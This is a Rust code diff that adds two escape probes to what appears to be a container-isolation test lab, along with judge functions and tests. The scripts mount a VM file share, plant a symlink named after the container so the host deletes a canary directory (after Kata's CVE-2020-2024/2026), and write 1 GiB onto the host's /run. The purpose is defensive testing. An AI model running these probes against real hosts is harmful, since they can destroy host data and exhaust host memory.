@@ -58,6 +58,10 @@ pub enum Set {
     /// Run on the host, as root, while an ordinary container runs: what a
     /// host user can reach of it.
     Host,
+    /// `--privileged`, without volumes (a second mount of the VM's share
+    /// tag in the guest would land on a volume's submount): what the guest
+    /// can make the host do through its file share.
+    Share,
 }
 
 /// Where the privileged probe container gets the lab's two scratch volumes
@@ -69,6 +73,9 @@ pub const RO_FILE: &str = "target";
 pub const RO_ORIGINAL: &str = "lab-original";
 /// What the container of the host-side probe writes into its rootfs.
 pub const SECRET_FILE: &str = "lab-secret";
+/// The file in the host's canary directory, and its content.
+pub const CANARY_FILE: &str = "precious";
+pub const CANARY_CONTENT: &str = "lab-canary";
 
 pub struct Def {
     pub id: &'static str,
@@ -224,6 +231,24 @@ pub const PROBES: &[Def] = &[
         judge: judge_host_read_rootfs,
     },
     Def {
+        id: "escape-share-symlink",
+        title:
+            "Escape: make the host unmount and delete a host directory through the VM's file share",
+        set: Set::Share,
+        // The symlink is named after the container's own id, pointing at a
+        // host canary dir (a file and a mount in it): the name the host
+        // removes when the container goes (Kata's CVE-2020-2024/2026).
+        script: r#"mkdir -p /tmp/s; if ! mount -t virtiofs scute /tmp/s 2>/tmp/e; then echo "share=none $(cat /tmp/e)"; else echo "share=mounted"; if ln -s "$LAB_CANARY" "/tmp/s/$LAB_CID" 2>/tmp/e; then echo "planted=yes"; else echo "planted=no $(cat /tmp/e)"; fi; fi"#,
+        judge: judge_escape_share_symlink,
+    },
+    Def {
+        id: "escape-share-fill",
+        title: "Escape: store 1 GiB on the host's /run through the VM's file share",
+        set: Set::Share,
+        script: r#"if ! grep -q ' /tmp/s virtiofs' /proc/mounts; then echo "share=none"; else echo "share=mounted"; if dd if=/dev/zero of=/tmp/s/lab-fill bs=1M count=1024 2>/tmp/e; then echo "fill=ok $(wc -c < /tmp/s/lab-fill) bytes"; else echo "fill=failed $(tail -n1 /tmp/e)"; fi; rm -f /tmp/s/lab-fill; fi"#,
+        judge: judge_escape_share_fill,
+    },
+    Def {
         id: "escape-module-load",
         title: "Escape: load a kernel module",
         set: Set::Privileged,
@@ -298,6 +323,44 @@ pub struct Context<'a> {
     /// What the host found in the scratch volumes after the privileged
     /// container ran (None: they were not mounted).
     pub volumes: Option<VolumesAfter>,
+    /// The share probes' canary dir as the host found it after the
+    /// container was removed (None: there was none).
+    pub canary: Option<CanaryAfter>,
+}
+
+/// The host's canary directory after the share probes' container is gone:
+/// `None` when the dir, its file and its mount are all as they were, else
+/// what changed.
+#[derive(Debug, Clone, Default)]
+pub struct CanaryAfter {
+    pub changed: Option<String>,
+}
+
+impl CanaryAfter {
+    /// Checks `dir` (holding [`CANARY_FILE`]) and its mount at `mnt`.
+    pub fn observe(dir: &std::path::Path, mnt: &std::path::Path) -> Self {
+        let mounted = std::fs::read_to_string("/proc/self/mountinfo")
+            .unwrap_or_default()
+            .lines()
+            .any(|l| l.split(' ').nth(4) == Some(&*mnt.to_string_lossy()));
+        let changed = if !dir.is_dir() {
+            Some(format!("{} is gone", dir.display()))
+        } else if std::fs::read_to_string(dir.join(CANARY_FILE))
+            .ok()
+            .as_deref()
+            != Some(CANARY_CONTENT)
+        {
+            Some(format!(
+                "{} is gone or changed",
+                dir.join(CANARY_FILE).display()
+            ))
+        } else if !mounted {
+            Some(format!("the mount at {} was unmounted", mnt.display()))
+        } else {
+            None
+        };
+        Self { changed }
+    }
 }
 
 /// The scratch volumes as the host sees them after the privileged probes.
@@ -848,6 +911,63 @@ fn judge_escape_ro_volume(s: &Seen) -> (Verdict, String) {
     }
 }
 
+/// `escape-share-symlink`: judged on the host's canary after the container
+/// was removed.
+fn judge_escape_share_symlink(s: &Seen) -> (Verdict, String) {
+    if kv(s.text, "share").is_none_or(|v| v.starts_with("none")) {
+        return (
+            NotApplicable,
+            "no virtio-fs share to mount: the container's files are the host's own directories (nothing is shared through a VM device)".into(),
+        );
+    }
+    let Some(c) = &s.cx.canary else {
+        return (NotApplicable, "the lab made no canary directory".into());
+    };
+    let planted = kv(s.text, "planted").unwrap_or("?");
+    match &c.changed {
+        Some(what) => (
+            Exposed,
+            format!("the guest planted a symlink named after its container ({planted}); after the container was removed {what}: the host followed it"),
+        ),
+        None if planted == "yes" => (
+            Isolated,
+            "the guest planted a symlink named after its container, but the host's canary directory, its file and its mount are intact after removal".into(),
+        ),
+        None => (
+            Isolated,
+            format!(
+                "the share's root is read-only to the guest ({}); the host's canary directory, its file and its mount are intact after removal",
+                planted.trim_start_matches("no").trim()
+            ),
+        ),
+    }
+}
+
+/// `escape-share-fill`: a file the guest writes at its share's root lands
+/// in the host's state dir (`/run`, often RAM).
+fn judge_escape_share_fill(s: &Seen) -> (Verdict, String) {
+    if kv(s.text, "share").is_none_or(|v| v.starts_with("none")) {
+        return (
+            NotApplicable,
+            "no virtio-fs share to mount: the container writes to its own rootfs, bounded by the host's disk as any runc container".into(),
+        );
+    }
+    match kv(s.text, "fill") {
+        Some(f) if f.starts_with("ok") => (
+            Exposed,
+            format!("the guest wrote {} at its share's root, on the host's /run", f.trim_start_matches("ok").trim()),
+        ),
+        Some(f) => (
+            Isolated,
+            format!(
+                "writing at the share's root fails ({}): the guest stores nothing on the host's /run",
+                f.trim_start_matches("failed").trim()
+            ),
+        ),
+        None => (NotApplicable, "the probe did not get that far".into()),
+    }
+}
+
 /// `escape-volume-nodes`: judged on what the host finds on the volume.
 fn judge_escape_volume_nodes(s: &Seen) -> (Verdict, String) {
     let Some(v) = &s.cx.volumes else {
@@ -951,7 +1071,7 @@ pub fn evaluate(set: Set, output: &str, cx: &Context, raw: &str) -> Vec<Probe> {
             Probe {
                 id: p.id.into(),
                 title: p.title.into(),
-                privileged: set == Set::Privileged,
+                privileged: matches!(set, Set::Privileged | Set::Share),
                 verdict,
                 reason,
                 evidence,
@@ -995,6 +1115,7 @@ mod tests {
             host: &h,
             host_core_pattern_after: Some(after.into()),
             volumes,
+            canary: None,
         };
         evaluate(set, out, &cx, "raw/x.txt")
             .into_iter()
@@ -1018,6 +1139,49 @@ mod tests {
         assert_eq!(v["host-read-rootfs"], Verdict::Isolated);
         let v = verdicts(Set::Host, "=== probe host-read-rootfs\nlocated=0\n", "core");
         assert_eq!(v["host-read-rootfs"], Verdict::NotApplicable);
+    }
+
+    #[test]
+    fn share_escapes_are_judged_on_the_hosts_canary() {
+        let h = host();
+        let judge_with = |out: &str, changed: Option<&str>| {
+            let cx = Context {
+                host: &h,
+                host_core_pattern_after: None,
+                volumes: None,
+                canary: Some(CanaryAfter {
+                    changed: changed.map(str::to_owned),
+                }),
+            };
+            evaluate(Set::Share, out, &cx, "r")
+                .into_iter()
+                .map(|p| (p.id, p.verdict))
+                .collect::<BTreeMap<String, Verdict>>()
+        };
+        let runc = "=== probe _id\nboot_id=host-bid\n=== probe escape-share-symlink\nshare=none mount: mounting scute on /tmp/s failed: No such device\n=== probe escape-share-fill\nshare=none\n";
+        let v = judge_with(runc, None);
+        assert_eq!(v["escape-share-symlink"], Verdict::NotApplicable);
+        assert_eq!(v["escape-share-fill"], Verdict::NotApplicable);
+        let held = "=== probe _id\nboot_id=vm-bid\n=== probe escape-share-symlink\nshare=mounted\nplanted=no ln: /tmp/s/c: Read-only file system\n=== probe escape-share-fill\nshare=mounted\nfill=failed dd: /tmp/s/lab-fill: Read-only file system\n";
+        let v = judge_with(held, None);
+        assert_eq!(v["escape-share-symlink"], Verdict::Isolated);
+        assert_eq!(v["escape-share-fill"], Verdict::Isolated);
+        let open = "=== probe _id\nboot_id=vm-bid\n=== probe escape-share-symlink\nshare=mounted\nplanted=yes\n=== probe escape-share-fill\nshare=mounted\nfill=ok 1073741824 bytes\n";
+        let v = judge_with(open, Some("/tmp/canary is gone"));
+        assert_eq!(v["escape-share-symlink"], Verdict::Exposed);
+        assert_eq!(v["escape-share-fill"], Verdict::Exposed);
+    }
+
+    #[test]
+    fn a_canary_is_checked_file_and_mount() {
+        let d = tempfile::tempdir().unwrap();
+        std::fs::write(d.path().join(CANARY_FILE), CANARY_CONTENT).unwrap();
+        // No mount at "mnt": that is what a host that followed would leave.
+        let c = CanaryAfter::observe(d.path(), &d.path().join("mnt"));
+        assert!(c.changed.unwrap().contains("unmounted"));
+        std::fs::write(d.path().join(CANARY_FILE), "x").unwrap();
+        let c = CanaryAfter::observe(d.path(), &d.path().join("mnt"));
+        assert!(c.changed.unwrap().contains("changed"));
     }
 
     #[test]
@@ -1170,6 +1334,7 @@ mod tests {
             host: &h,
             host_core_pattern_after: None,
             volumes: None,
+            canary: None,
         };
         let p = evaluate(Set::Privileged, out, &cx, "r");
         let disk = p.iter().find(|p| p.id == "escape-host-disk").unwrap();
@@ -1179,6 +1344,7 @@ mod tests {
             host: &h,
             host_core_pattern_after: None,
             volumes: None,
+            canary: None,
         };
         let p = evaluate(Set::Privileged, out, &cx, "r");
         let disk = p.iter().find(|p| p.id == "escape-host-disk").unwrap();
